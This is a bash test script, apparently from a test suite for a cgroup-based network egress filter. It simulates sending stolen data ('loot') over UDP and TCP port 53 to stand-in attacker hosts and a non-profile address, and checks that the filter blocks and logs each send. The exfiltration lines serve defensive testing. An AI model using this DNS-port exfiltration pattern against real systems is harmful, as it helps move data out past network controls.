#!/bin/bash
# SPDX-License-Identifier: BSD-2-Clause
# attack: asks a name server that is not the profile's, by UDP and TCP, also a host that is allowed for other ports
# stopped-by: connect4, sendmsg4, sendmsg6
# reason: destination, port_for_destination
# kernels: all
. "$(dirname "$0")/lib.sh"
arena udp/53 tcp/53
ALSO_FORBIDDEN='198\.51\.100\.2 53 '

attack_by <<'PYTHON'
from attacker import *

for target, tag in (EVIL4, "evil4"), (EVIL6, "evil6"), (GOOD4, "good4"):
    with attempt("udp " + tag):
        udp(target).sendto(loot("udp-" + tag), (target, 53))
    with attempt("tcp " + tag):
        sock = tcp(target)
        sock.connect((target, 53))
        sock.sendall(loot("tcp-" + tag))
udp("198.51.100.53").sendto(honest("resolver"), ("198.51.100.53", 53))
PYTHON
works stolen:udp-evil4 stolen:tcp-evil4 stolen:udp-evil6 stolen:tcp-evil6 stolen:udp-good4 stolen:tcp-good4
kvgate attach --audit-file "$SCRATCH/record" --ranges "$RANGES" --crl-hosts none --resolver 198.51.100.53 "$CG" \
	>/dev/null
forget
stopped
passes honest:resolver
recorded sendmsg4 destination
recorded sendmsg6 destination
recorded sendmsg4 port_for_destination
recorded connect4 port_for_destination
